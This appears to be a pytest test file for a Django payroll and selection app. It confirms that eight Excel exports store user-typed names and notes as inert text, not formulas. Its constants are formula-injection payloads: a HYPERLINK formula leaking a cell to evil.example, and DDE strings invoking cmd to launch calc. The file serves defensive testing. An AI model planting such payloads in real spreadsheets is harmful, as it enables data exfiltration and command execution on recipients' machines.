"""Issue 16 (penetration test, HIGH): text a user typed is never a live formula in any Excel we hand out.

For each of the eight exports the finding named, names and notes start with a formula; the downloaded
workbook must hold them as plain text (visible, unchanged) and no cell may be a formula."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from cadres.models import Cadre
from core import excel
from core.models import County, Village
from payroll import services as payroll_services
from selection.models import Application, Round
from tests.payroll.conftest import approved, build, policy  # noqa: F401 - fixtures
from tests.selection.conftest import advance, apply, rnd  # noqa: F401 - fixtures

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
TABBED = "\t=1+1"  # a leading blank that a trimming step might remove still counts
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _cells(content):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_inert(content, *texts):
    cells = _cells(content)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas
    for text in texts:
        shown = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert shown, text  # still visible, character for character
        assert all(c.data_type == "s" for c in shown)


def _body(response):
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


# -- the helper ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", [LINK, TABBED, " =1+1", PLUS, AT, MINUS, "\r=1", "＝1+1", "#N/A"])
def test_safe_cell_value_keeps_text_as_text(value):
    wb = Workbook()
    cell = excel.write_cell(wb.active, 1, 1, value)
    back = load_workbook(io.BytesIO(excel.workbook_bytes(wb))).active["A1"]
    assert (back.value, back.data_type) == (value.replace("\r", "\n"), "s")  # XML reads CR as LF
    if value != "#N/A":
        assert cell.quotePrefix and back.quotePrefix  # Excel keeps it text when the cell is edited


def test_safe_cell_value_keeps_numbers_dates_and_plain_text_typed():
    wb = Workbook()
    values = [5, Decimal("12.50"), dt.date(2025, 3, 1), "张三", None, -3]
    excel.write_row(wb.active, 1, values)
    back = load_workbook(io.BytesIO(excel.workbook_bytes(wb))).active
    assert [c.data_type for c in back[1]][:4] == ["n", "n", "d", "s"]
    assert back["D1"].quotePrefix is False and back["F1"].value == -3


def test_control_characters_do_not_break_an_export():
    # openpyxl refuses them ("cannot be used in worksheets"): one such name used to fail the whole file
    wb = Workbook()
    excel.write_row(wb.active, 1, ["张\x01三\x1b", "=1\x07"])
    back = load_workbook(io.BytesIO(excel.workbook_bytes(wb))).active
    assert [(c.value, c.data_type) for c in back[1]] == [("张三", "s"), ("=1", "s")]


def test_safe_cell_value_in_a_write_only_sheet():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append([excel.safe_cell_value(WriteOnlyCell(ws), LINK), excel.safe_cell_value(WriteOnlyCell(ws), 7)])
    back = load_workbook(io.BytesIO(excel.workbook_bytes(wb))).active
    assert [(c.value, c.data_type) for c in back[1]] == [(LINK, "s"), (7, "n")]


# -- the eight exports -------------------------------------------------------------------------------------

@pytest.fixture
def evil_world(world):
    """The world's cadre and village carry formulas in their names (written directly: the finding is about
    what the exports do with whatever text is stored)."""
    Cadre.objects.filter(pk=world.cadre.pk).update(name=LINK)
    Cadre.objects.filter(pk=world.other_cadre.pk).update(name="李\x01四")  # not storable in a sheet as is
    Village.objects.filter(pk=world.cadre.village_id).update(name=PLUS)
    County.objects.filter(pk=world.county.pk).update(name=AT)
    world.cadre.refresh_from_db()
    return world


@pytest.mark.parametrize("via", ["web", "api"])
def test_pay_sheet(evil_world, client, api, build, via):
    world = evil_world
    run = build()
    payroll_services.bonus_set(cadre=world.cadre, month=dt.date(2025, 4, 1), amount="1", by=None, note=MINUS)
    user = world.users["county_org"]
    if via == "web":
        client.force_login(user)
        r = client.get(f"/payroll/runs/{run.pk}/export/?format=xlsx")
    else:
        r = api(user).get(f"/api/v1/pay-runs/{run.pk}/export/?format=xlsx")
    assert_inert(_body(r), LINK, PLUS, AT)


@pytest.mark.parametrize("via", ["web", "api"])
def test_ledger(evil_world, client, api, via):
    user = evil_world.users["county_org"]
    if via == "web":
        client.force_login(user)
        r = client.get("/supervision/ledger/?year=2025&export=xlsx")
    else:
        r = api(user).get("/api/v1/reports/ledger/?format=xlsx&year=2025")
    assert_inert(_body(r), LINK, PLUS)


def test_bonus_template(evil_world, client, policy):
    world = evil_world
    payroll_services.bonus_set(cadre=world.cadre, month=dt.date(2025, 3, 1), amount="100", by=None, note=TABBED)
    client.force_login(world.users["township_party"])
    content = _body(client.get("/payroll/bonuses/import/?template=1&month=2025-03"))
    assert_inert(content, LINK, PLUS, TABBED)
    # the name goes back in unchanged: an import of the template does not see a different name
    ws = load_workbook(io.BytesIO(content)).active
    assert [row[3] for row in ws.iter_rows(min_row=2, values_only=True)] == [LINK]


def test_payments_template(evil_world, client, approved):
    run = approved()
    client.force_login(evil_world.users["township_party"])
    assert_inert(_body(client.get(f"/payroll/runs/{run.pk}/payments-import/?template=1")), LINK, PLUS)


@pytest.mark.parametrize("what", ["ranking", "publicity"])
def test_selection_ranking_and_publicity(world, client, rnd, apply, advance, org, what):
    app = advance(apply(name="王五", village=world.village2), "co_reviewed", written=Decimal("90"))
    Application.objects.filter(pk=app.pk).update(name=LINK)
    Village.objects.filter(pk=world.village2.pk).update(name=MINUS)
    Round.objects.filter(pk=rnd.pk).update(title=AT)
    client.force_login(org)
    assert_inert(_body(client.get(f"/selection/{rnd.pk}/export/{what}.xlsx")), LINK, MINUS, AT)


def test_error_sheet_of_an_import_holds_messages_as_text(world):
    # the marked sheet we send back carries our messages, which quote the user's cells
    from django.core.files.uploadedfile import SimpleUploadedFile

    wb = Workbook()
    wb.active.append(["姓名"])
    wb.active.append(["张三"])
    upload = SimpleUploadedFile("a.xlsx", excel.workbook_bytes(wb))
    result = excel.read_upload(upload, {"name": "姓名"})
    result.error(2, LINK)
    assert_inert(excel.error_workbook(upload, result), LINK)
